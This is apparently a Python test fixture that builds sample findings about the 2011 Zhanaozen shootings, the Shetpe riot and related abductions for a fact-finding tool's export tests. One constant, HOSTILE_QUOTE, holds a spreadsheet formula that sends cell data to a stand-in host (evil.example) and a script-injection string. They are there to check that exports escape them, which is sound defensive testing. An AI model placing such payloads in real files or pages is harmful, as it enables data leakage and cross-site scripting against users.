"""Findings built by hand for the export tests: small, but with every shape an export has to carry.

Three incidents in the Zhanaozen case: the shooting on the square (the officials' toll 10 -> 11 -> 16, two
independent figures, a repost repeating the prosecutor's figure, a crowd size, a witness whose quote is
hostile), the riot in Shetpe (one death, a label with a comma and quotes), and the abductions, which have no
place at all and no figures. The case's tables add a total only the case holds and detentions. One item a
finding names is missing from the item list, as happens when an item is withdrawn between two checkpoints.
"""

from __future__ import annotations

import hashlib
from datetime import date

from factfinder.findings.model import (
    AttachedItem,
    Corroboration,
    CountTable,
    Decision,
    EvidenceItem,
    Figure,
    Findings,
    Incident,
    Record,
    Source,
    TimelineEntry,
)

HOSTILE_QUOTE = (
    '=HYPERLINK("http://evil.example/?q="&A1,"click") "They shot at us," he said,\r\n'
    "then </script><script>alert(1)</script> & ran; \u2028 -- all of it"
)
SQUARE = "I-3fa9c01d2e"
SHETPE = "I-7b21e4aa90"
HOMES = "I-c0ffee1234"
ROOT_HEX = "9f2c4be07d1a8e35c6f0b2d94e7a1c58f3b6d0e29a4c7f1e8b5d3a6c9e0f2b47"
MISSING_ITEM = 9
"""An item a figure names that the findings' item list does not hold."""


def sha(n: int) -> str:
    return hashlib.sha256(f"item {n}".encode()).hexdigest()


INTERIOR = Source("Interior Ministry", "official", "gov:interior", True)
PROSECUTOR = Source("Prosecutor General's Office", "official", "gov:prosecutor", True)
STEPPE = Source("Steppe Wire", "media", "media:steppe-wire", False)
CASPIAN = Source("Caspian Daily", "media", "media:caspian-daily", False)
BUREAU = Source("Civil Liberties Bureau", "ngo", "ngo:clb", False)
HOSPITAL = Source("Zhanaozen City Hospital", "hospital", "hospital:zhanaozen", True)
WITNESS = Source("Witness A", "witness", "Witness A", False)


def figure(
    claim_id: int,
    item: int,
    what: str,
    low: int,
    high: int | None,
    source: Source,
    day: date,
    *,
    qualifier: str = "exact",
    quote: str = "",
    group: int = 0,
    repeats: int | None = None,
    hedged: bool = False,
) -> Figure:
    return Figure(
        claim_id=claim_id,
        item_id=item,
        item_sha256=sha(item),
        what=what,
        low=low,
        high=high,
        qualifier=qualifier,
        quote=quote or f"{low} {what}",
        source=source,
        reported_on=day,
        hedged=hedged,
        group=group,
        repeats=repeats,
    )


def record(
    claim_id: int,
    item: int,
    source: Source,
    day: date,
    *,
    event: tuple[str | None, str | None] = ("Protests", "Excessive force against protesters"),
    place: tuple[str | None, float | None, float | None, str | None, int | None] = (
        "Zhanaozen",
        43.34116,
        52.86192,
        "Mangystau",
        1,
    ),
    quote: str = "police opened fire on the strikers",
    when: tuple[date, date] = (date(2011, 12, 16), date(2011, 12, 16)),
    figures: tuple[int, ...] = (),
    negated: bool = False,
) -> Record:
    name, lat, lon, admin1, precision = place
    return Record(
        claim_id=claim_id,
        digest=hashlib.sha256(f"claim {claim_id}".encode()).hexdigest(),
        item_id=item,
        item_sha256=sha(item),
        event_type=event[0],
        sub_event_type=event[1],
        quote=quote,
        place=name,
        latitude=lat,
        longitude=lon,
        admin1=admin1,
        country="KZ" if name else None,
        geo_precision=precision,
        earliest=when[0],
        latest=when[1],
        time_precision=1 if when[0] == when[1] else 2,
        source=source,
        negated=negated,
        reported_on=day,
        figures=figures,
    )


D16, D17, D18, D19, D20, D22 = (date(2011, 12, d) for d in (16, 17, 18, 19, 20, 22))

# The square: the officials' toll 10 -> 11 -> 16, a repost of 16, two independent figures, the crowd.
K10 = figure(11, 1, "killed", 10, 10, INTERIOR, D17, group=1)
K11 = figure(12, 2, "killed", 11, 11, INTERIOR, D18, group=1)
K16 = figure(13, 3, "killed", 16, 16, PROSECUTOR, D22, group=2)
K16_REPOST = figure(14, 4, "killed", 16, 16, PROSECUTOR, D22, group=2, repeats=13)
K64 = figure(15, 5, "killed", 64, None, BUREAU, D20, qualifier="at_least", group=3, hedged=True)
K70 = figure(16, 6, "killed", 70, 70, WITNESS, D19, quote=HOSTILE_QUOTE, group=4)
CROWD = figure(17, 7, "crowd", 3000, 3000, STEPPE, D17, qualifier="about", group=1)
SQUARE_KILLED = CountTable(
    what="killed",
    figures=[K10, K11, K70, K64, K16, K16_REPOST],
    official_history=[K10, K11, K16],
    conservative=16,
    conservative_reason="the officials' latest figure, the lowest current one",
    independent_low=64,
    independent_high=70,
    independent_sources=2,
    disputes=["Officials say 16; the Civil Liberties Bureau says at least 64", 'Witnesses | "pipes", commas'],
)
SQUARE_CROWD = CountTable("crowd", [CROWD], [], 3000, "the only figure", 3000, 3000, 1)

# Shetpe: one death from the hospital.
K1 = figure(21, 8, "killed", 1, 1, HOSPITAL, D18, group=1)
SHETPE_KILLED = CountTable("killed", [K1], [], 1, "the only figure", 1, 1, 1)

# The case's tables: everything above, plus a total only the case holds, and detentions.
TOTAL = figure(30, MISSING_ITEM, "killed", 17, 17, PROSECUTOR, D22, group=2)
DETAINED = figure(31, 3, "detained", 50, None, PROSECUTOR, D22, qualifier="at_least", group=1)
CASE_KILLED = CountTable(
    what="killed",
    figures=[K10, K11, K1, K70, K64, K16, K16_REPOST, TOTAL],
    official_history=[K10, K11, K16, TOTAL],
    conservative=17,
    conservative_reason="the officials' latest total",
    independent_low=64,
    independent_high=70,
    independent_sources=2,
)
CASE_DETAINED = CountTable("detained", [DETAINED], [DETAINED], 50, "the only figure", None, None, 0)

CLOCK = "2024-03-0{}T10:00:00.000000Z"


def items() -> dict[int, EvidenceItem]:
    types = {1: "official", 2: "official", 3: "official", 4: "media", 5: "ngo", 6: "witness", 7: "media"}
    found: dict[int, EvidenceItem] = {}
    for n in range(1, 9):
        found[n] = EvidenceItem(
            id=n,
            sha256=sha(n),
            size=1000 + n,
            media_type="text/plain" if n != 6 else "video/mp4",
            first_log_index=n * 2,
            received_at_vault_clock=CLOCK.format(n),
            source=None if n == 8 else f"publisher {n}",
            source_type=types.get(n, "hospital"),  # type: ignore[arg-type]
            published=n != 6,
            gps=(43.35217, 52.86431) if n == 6 else None,
        )
    return found


def make_findings() -> Findings:
    square = Incident(
        ref=SQUARE,
        label="Police fire on striking oil workers on the central square",
        event_type="Protests",
        sub_event_type="Excessive force against protesters",
        types={"Protests": 3, "Riots": 1},
        earliest=D16,
        latest=D16,
        time_precision=1,
        dates_disagree=False,
        place="Zhanaozen",
        latitude=43.34116,
        longitude=52.86192,
        admin1="Mangystau",
        country="KZ",
        geo_precision=1,
        radius_km=0.0,
        records=[
            record(11, 1, INTERIOR, D17, figures=(11,)),
            record(13, 3, PROSECUTOR, D22, figures=(13,)),
            record(16, 6, WITNESS, D19, quote=HOSTILE_QUOTE, figures=(16,)),
            record(17, 7, STEPPE, D17, figures=(17,)),
            record(18, 4, CASPIAN, D18, quote="no shots were fired", negated=True),
        ],
        counts={"crowd": SQUARE_CROWD, "killed": SQUARE_KILLED},
        attached=[AttachedItem(6, sha(6), "video/mp4", "cluster")],
        corroboration=Corroboration("contradicted", ("officials deny shots were fired at the crowd",)),
        actors=["Police Forces of Kazakhstan", "Protesters (Kazakhstan)", "Strikers"],
        decisions=[1],
    )
    shetpe = Incident(
        ref=SHETPE,
        label='Riot, "clashes" at the railway station',
        event_type="Riots",
        sub_event_type="Violent demonstration",
        types={"Riots": 2},
        earliest=D17,
        latest=D17,
        time_precision=1,
        dates_disagree=False,
        place="Shetpe",
        latitude=44.16667,
        longitude=52.11667,
        admin1="Mangystau",
        country="KZ",
        geo_precision=1,
        radius_km=0.0,
        records=[
            record(
                21,
                8,
                HOSPITAL,
                D18,
                event=("Riots", "Violent demonstration"),
                place=("Shetpe", 44.16667, 52.11667, "Mangystau", 1),
                figures=(21,),
            ),
        ],
        counts={"killed": SHETPE_KILLED},
        attached=[],
        corroboration=Corroboration("single", ("one source",)),
        actors=["Rioters (Kazakhstan)", "Police Forces of Kazakhstan"],
    )
    homes = Incident(
        ref=HOMES,
        label="Men without identification take residents from their homes",
        event_type="Violence against civilians",
        sub_event_type="Abduction/forced disappearance",
        types={"Violence against civilians": 1},
        earliest=D18,
        latest=D20,
        time_precision=2,
        dates_disagree=True,
        place=None,
        latitude=None,
        longitude=None,
        admin1=None,
        country=None,
        geo_precision=None,
        radius_km=0.0,
        records=[
            record(
                41,
                5,
                BUREAU,
                D20,
                event=("Violence against civilians", "Abduction/forced disappearance"),
                place=(None, None, None, None, None),
                quote="men in plain clothes took them away",
                when=(D18, D20),
            ),
        ],
        counts={},
        attached=[AttachedItem(6, sha(6), "video/mp4", "item")],
        corroboration=Corroboration("single", ("one source",)),
        actors=["Unidentified Armed Group (Kazakhstan)", "Civilians (Kazakhstan)"],
        decisions=[2],
    )
    return Findings(
        title="Zhanaozen, December 2011",
        checkpoint_size=42,
        checkpoint_root=ROOT_HEX,
        checkpoint_note="factfinder.example/zhanaozen\n42\nn5vMWJ2g8wq=\n",
        incidents=[square, shetpe, homes],
        counts={"detained": CASE_DETAINED, "killed": CASE_KILLED},
        items=items(),
        decisions=[
            Decision(
                1,
                "merge",
                {"into": SQUARE, "claims": [11, 13], "on": date(2024, 3, 9)},
                "same shooting",
                "dana.k",
                "2024-03-09T12:00:00.000000Z",
                40,
                True,
            ),
            Decision(2, "attach", {"incident": HOMES, "item": 6}, None, "dana.k", "2024-03-10T08:30:00.5Z", 41, True),
        ],
        timeline=[
            TimelineEntry("incident", SQUARE, "Shooting on the square", D16, D16, 1),
            TimelineEntry("item", sha(6), "Video of the square", D16, D17, 2),
        ],
        claims=13,
    )


def empty_findings() -> Findings:
    return Findings(
        title="An empty case",
        checkpoint_size=0,
        checkpoint_root="e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
        checkpoint_note="",
        incidents=[],
        counts={},
        items={},
        decisions=[],
        timeline=[],
        claims=0,
    )
